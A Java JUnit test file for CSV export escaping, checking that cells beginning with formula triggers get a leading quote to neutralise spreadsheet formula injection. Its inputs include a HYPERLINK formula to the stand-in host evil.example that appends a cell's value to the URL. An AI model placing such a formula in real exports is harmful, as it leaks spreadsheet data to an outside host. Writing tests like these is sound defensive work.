package org.safetyportal.content.exports;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")",
            "-", "+", "@"})
    void aTextThatASpreadsheetWouldRun_getsAQuoteInFront(String text) {
        String cell = CsvCell.of(text);
        String unquoted = cell.startsWith("\"") ? CsvReader.read(cell + "\r\n").get(0).get(0) : cell;

        assertEquals("'" + text, unquoted);
    }

    @Test
    void theHyperlinkFromTheIssue_isQuotedAndNeutralised() {
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击查看\"\")\"",
                CsvCell.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"-3|-3", "+1.5|+1.5", "0356-2020110|0356-2020110", "安全 = 责任|安全 = 责任",
            "a-b|a-b", "12345|12345"})
    void plainNumbersAndTextsThatDoNotBeginWithATrigger_stayAsTheyAre(String text, String expected) {
        assertEquals(expected, CsvCell.of(text));
    }

    @Test
    void aTextBeginningWithAQuote_getsOneMore_soThatRemovingOneRestoresEveryText() {
        for (String text : List.of("'=1+1", "'quoted", "=1+1", "plain", "-3")) {
            String cell = CsvCell.of(text);
            String read = cell.startsWith("\"") ? CsvReader.read(cell + "\r\n").get(0).get(0) : cell;
            assertEquals(text, read.startsWith("'") ? read.substring(1) : read, cell);
        }
    }

    @Test
    void missingAndEmptyValues_stayApart() {
        assertEquals("", CsvCell.of(null));
        assertEquals("\"\"", CsvCell.of(""));
    }
}
